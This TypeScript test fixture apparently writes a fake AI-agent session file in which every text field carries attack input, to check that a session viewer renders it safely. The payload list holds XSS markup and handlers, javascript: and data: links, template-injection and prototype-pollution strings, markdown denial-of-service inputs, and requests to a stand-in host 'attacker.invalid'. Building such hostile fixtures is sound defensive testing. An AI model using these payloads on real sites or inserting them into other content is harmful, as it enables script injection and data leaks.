import { writeFileSync } from "node:fs";

/** Calls to this would say that something of a session ran. */
const RAN = "window.__ran=1";

/** An address that somebody would learn from who reads the session; nobody answers there. */
const FETCHED = "http://attacker.invalid/x";

/** What attackers write, as text, markdown and markup. */
export const ATTACKS: readonly string[] = [
  `<script>${RAN}</script>`,
  `</script><script>${RAN}</script>`,
  `<img src=x onerror="${RAN}">`,
  `<svg onload="${RAN}"><animate onbegin="${RAN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RAN}"><text y=20>press</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RAN}">`,
  `<iframe srcdoc="<script>parent.${RAN}</script>"></iframe>`,
  `<object data="${FETCHED}"></object><embed src="${FETCHED}">`,
  `<link rel=stylesheet href="${FETCHED}"><style>@import "${FETCHED}"; body{background:url(${FETCHED})}</style>`,
  `<meta http-equiv=refresh content="0;url=${FETCHED}"><base href="${FETCHED}">`,
  `<form action="${FETCHED}"><button formaction="javascript:${RAN}">press</button></form>`,
  `<details open ontoggle="${RAN}"><summary>open</summary></details>`,
  `<div style="position:fixed;inset:0;background:url(${FETCHED})" class="order">over everything</div>`,
  `![picture](${FETCHED}) ![p](javascript:${RAN}) ![p](data:image/svg+xml,<svg onload=${RAN}>)`,
  `[press](javascript:${RAN}) [press](JaVaScRiPt:${RAN}) [press](data:text/html,<script>${RAN}</script>)`,
  `[press](java\tscript:${RAN}) <javascript:${RAN}> [press](vbscript:x) [press](file:///etc/passwd)`,
  `[web](https://example.org "\\" onmouseover=\\"${RAN}")`,
  "```html\n<img src=x onerror=window.__ran=1>\n```",
  "```<img/src=x/onerror=window.__ran=1>\ncode\n```",
  `| a | b |\n|---|---|\n| <img src=x onerror=${RAN}> | [x](javascript:${RAN}) |`,
  // What keeps a reader of markdown busy, and what makes it call itself too often.
  "_a_".repeat(40_000),
  ">".repeat(20_000),
  "Pay \u202Erotubirtnoc\u202C and \u2066hidden\u2069 \u200b\u200b text",
  "{{constructor.constructor('window.__ran=1')()}} \u0024{window.__ran=1} <%= window.__ran=1 %>",
];

/** A line so long that a page must not try to show all of it. */
const LONG = 10_000_000;

/** Writes a session in which everything that can be text is an attack. Returns the number of entries. */
export function writeAttackSession(file: string): number {
  const lines: object[] = [];
  let parentId: string | null = null;
  const add = (entry: Record<string, unknown>) => {
    const id = `x${lines.length}`;
    lines.push({ id, parentId, timestamp: "2026-01-01T00:00:00.000Z", ...entry });
    parentId = id;
  };
  const say = (message: Record<string, unknown>) =>
    add({ type: "message", message: { timestamp: 1, ...message } });
  for (const [at, attack] of ATTACKS.entries()) {
    const id = `call${at}`;
    const { proto } = {
      proto: JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
    };
    say({ role: "user", content: attack });
    say({
      role: "assistant",
      model: attack,
      provider: attack,
      stopReason: "error",
      errorMessage: attack,
      usage: { input: attack, output: attack, cost: { total: attack } },
      content: [
        { type: "thinking", thinking: attack },
        { type: "text", text: attack },
        {
          type: "toolCall",
          id,
          name: attack,
          arguments: { path: attack, command: attack, ...proto, [attack]: attack },
        },
        {
          type: "toolCall",
          id: `${id}b`,
          name: "edit",
          arguments: { path: attack, oldText: attack, newText: `${attack}!` },
        },
      ],
    });
    say({
      role: "toolResult",
      toolCallId: id,
      toolName: attack,
      isError: true,
      content: [
        { type: "text", text: attack },
        {
          type: "image",
          mimeType: "image/svg+xml",
          data: Buffer.from(`<svg onload="${RAN}"/>`).toString("base64"),
        },
        { type: "image", mimeType: `image/png" onerror="${RAN}`, data: attack },
      ],
      details: { diff: attack },
    });
    add({ type: "label", targetId: `x${lines.length - 1}`, label: attack });
  }
  for (const attack of ATTACKS) {
    add({ type: "branch_summary", fromId: "x1", summary: attack });
    add({
      type: "compaction",
      firstKeptEntryId: "x0",
      tokensBefore: 1,
      summary: attack,
      details: { policy: attack, source: attack, durationMs: attack, model: attack, reason: { attack } },
      usage: { input: attack, cost: attack },
    });
    add({ type: "custom", customType: attack, data: { __proto__: null, attack } });
    add({ type: attack, attack });
  }
  add({ type: "session_info", name: ATTACKS[0] });
  say({ role: "user", content: `begin ${"long ".repeat(LONG / 5)}` });
  say({
    role: "toolResult",
    toolCallId: "none",
    toolName: "x",
    isError: false,
    content: [{ type: "text", text: "<b>".repeat(LONG / 10) }],
  });
  say({ role: "user", content: "the end" });
  const header = {
    type: "session",
    version: 3,
    id: "attack",
    timestamp: "2026-01-01T00:00:00.000Z",
    cwd: ATTACKS[2],
  };
  writeFileSync(file, `${[header, ...lines].map((line) => JSON.stringify(line)).join("\n")}\n`);
  return lines.length;
}
